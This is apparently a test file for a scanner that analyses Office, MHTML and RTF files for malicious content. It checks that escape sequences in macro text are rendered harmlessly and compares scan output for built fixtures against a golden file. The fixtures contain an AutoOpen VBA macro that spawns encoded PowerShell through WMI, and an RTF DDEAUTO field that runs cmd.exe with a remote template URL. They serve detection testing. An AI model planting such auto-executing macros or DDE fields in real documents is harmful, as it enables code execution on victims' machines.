import assert from 'node:assert/strict';
import { test } from 'node:test';
import { emptyExtracted, type ScanResult } from '../../../core/index.js';
import { buildOleWordDocument, vbaModuleSource } from '../../../formats/ovba/index.js';
import { scanInput } from '../../../pipeline/index.js';
import { buildMhtmlWithMacros } from '../../../../test/builders/activemime.js';
import { buildRtf } from '../../../../test/builders/rtf.js';
import { assertGolden } from '../../../../test/support/golden.js';
import { escapeControls, renderDetail } from './detail.js';

const plain = { red: String, yellow: String, green: String, dim: String, bold: String };
const node = (over: Partial<ScanResult>): ScanResult => ({
  path: 'x.doc',
  sha256: '0'.repeat(64),
  size: 1,
  type: 'ole',
  verdict: 'clean',
  findings: [],
  extracted: emptyExtracted(),
  children: [],
  ...over,
});

test('detail: terminal escapes and bidi overrides in macro text are shown escaped, never raw', () => {
  assert.equal(
    escapeControls('a\u001b[31mred\u0007 \u202Efdp.exe\tok\n'),
    'a\\x1b[31mred\\x07 \\u{202E}fdp.exe\tok\n',
  );
  const extracted = emptyExtracted();
  extracted.macros.push({
    container: 'x.doc',
    stream: 'Macros/VBA/M',
    module: 'M\u001b]0;owned\u0007',
    code: 'Sub A()\r\n  x = "\u001b[2J"\r\nEnd Sub\r\n',
  });
  const out = renderDetail(node({ extracted }), plain);
  assert.ok(!/[\u0000-\u0008\u000b-\u001f]/.test(out), JSON.stringify(out));
  assert.match(out, /│ {3}x = "\\x1b\[2J"/);
});

test('detail: an artifact with nothing to show prints nothing', () => {
  assert.equal(renderDetail(node({}), plain), '');
});

test('detail: MHTML macro document and RTF DDE dropper (golden)', async () => {
  const macro =
    'Sub AutoOpen()\n  Set o = GetObject("winmgmts:Win32_Process")\n  o.Create "powershell -enc SQBFAFgA", Null, Null, pid\nEnd Sub';
  const doc = buildOleWordDocument({
    text: 'inert',
    modules: [
      {
        name: 'ThisDocument',
        code: vbaModuleSource('ThisDocument', macro, 'document'),
        type: 'document',
      },
    ],
  });
  const mht = await scanInput({ path: 'invoice.mht', bytes: buildMhtmlWithMacros(doc) });
  const rtf = await scanInput({
    path: 'dde.rtf',
    bytes: buildRtf({
      fields: ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'],
      template: 'http://203.0.113.7/t.dotm',
    }),
  });
  assertGolden(
    renderDetail(mht, plain) + renderDetail(rtf, plain),
    new URL('./testdata/detail.out.txt', import.meta.url),
  );
});
